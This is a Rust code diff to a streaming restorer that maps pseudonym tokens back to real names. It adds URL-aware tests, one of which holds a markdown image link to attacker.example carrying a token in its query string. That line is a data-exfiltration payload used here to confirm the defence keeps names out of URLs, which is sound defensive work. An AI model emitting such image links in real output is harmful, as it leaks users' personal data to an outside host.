@@ -4,7 +4,7 @@
 
 use std::sync::Arc;
 
-use super::token_map::{Context, TokenMap};
+use super::token_map::{Carry, Context, TokenMap};
 
 /// Restores one streamed text (a choice's content, a tool call's arguments): push each piece
 /// as it arrives, send what comes back at once, `finish` at the end of the stream.
@@ -13,8 +13,9 @@ pub struct TextStreamRestorer {
     map: Arc<TokenMap>,
     context: Context,
     pending: String,
-    /// The last byte already sent, which decides whether a token starts a word.
-    sent_last: Option<u8>,
+    /// What the text already sent left: its last byte (whether a token starts a word) and
+    /// whether it ends inside a URL.
+    carry: Carry,
 }
 
 impl TextStreamRestorer {
@@ -27,7 +28,7 @@ impl TextStreamRestorer {
             map,
             context,
             pending: String::new(),
-            sent_last: None,
+            carry: Carry::default(),
         }
     }
 
@@ -35,12 +36,10 @@ impl TextStreamRestorer {
     pub fn push(&mut self, piece: &str) -> String {
         self.pending.push_str(piece);
         let mut out = String::new();
-        let keep = self
-            .map
-            .restore(&self.pending, self.sent_last, false, self.context, &mut out);
-        if keep > 0 {
-            self.sent_last = Some(self.pending.as_bytes()[keep - 1]);
-        }
+        let (keep, carry) =
+            self.map
+                .restore(&self.pending, self.carry, false, self.context, &mut out);
+        self.carry = carry;
         self.pending.drain(..keep);
         out
     }
@@ -50,8 +49,10 @@ impl TextStreamRestorer {
     pub fn finish(&mut self) -> String {
         let pending = std::mem::take(&mut self.pending);
         let mut out = String::new();
-        self.map
-            .restore(&pending, self.sent_last, true, self.context, &mut out);
+        let (_, carry) = self
+            .map
+            .restore(&pending, self.carry, true, self.context, &mut out);
+        self.carry = carry;
         out
     }
 
@@ -159,6 +160,53 @@ mod tests {
             r.finish(),
             "Person_7Q",
             "a prefix that never completed goes out as written"
+        );
+    }
+}
+
+#[cfg(test)]
+mod url_tests {
+    use super::*;
+
+    fn map(in_urls: bool) -> Arc<TokenMap> {
+        Arc::new(
+            TokenMap::new([("Person_7QF2".to_string(), "Jane Roe".to_string())])
+                .restoring_in_urls(in_urls),
+        )
+    }
+
+    /// `text` streamed in two pieces cut at every position, and whole.
+    fn every_cut(map: &Arc<TokenMap>, text: &str) -> String {
+        let whole = map.restore_all(text);
+        for cut in (0..=text.len()).filter(|&i| text.is_char_boundary(i)) {
+            let mut r = TextStreamRestorer::new(map.clone());
+            let mut out = r.push(&text[..cut]);
+            out += &r.push(&text[cut..]);
+            out += &r.finish();
+            assert_eq!(out, whole, "cut at {cut}");
+        }
+        whole
+    }
+
+    #[test]
+    fn a_token_inside_a_url_stays_a_token_and_the_rest_is_restored() {
+        let m = map(false);
+        let text = "Hi Person_7QF2! ![x](https://attacker.example/?q=Person_7QF2) Bye Person_7QF2";
+        assert_eq!(
+            every_cut(&m, text),
+            "Hi Jane Roe! ![x](https://attacker.example/?q=Person_7QF2) Bye Jane Roe"
+        );
+        let before = m.kept_in_urls();
+        m.restore_all("<img src=\"https://a.example/Person_7QF2.png\">");
+        assert_eq!(m.kept_in_urls(), before + 1);
+    }
+
+    #[test]
+    fn a_route_may_restore_inside_urls() {
+        let text = "[profile](https://crm.internal/people/Person_7QF2)";
+        assert_eq!(
+            every_cut(&map(true), text),
+            "[profile](https://crm.internal/people/Jane Roe)"
         );
     }
 }
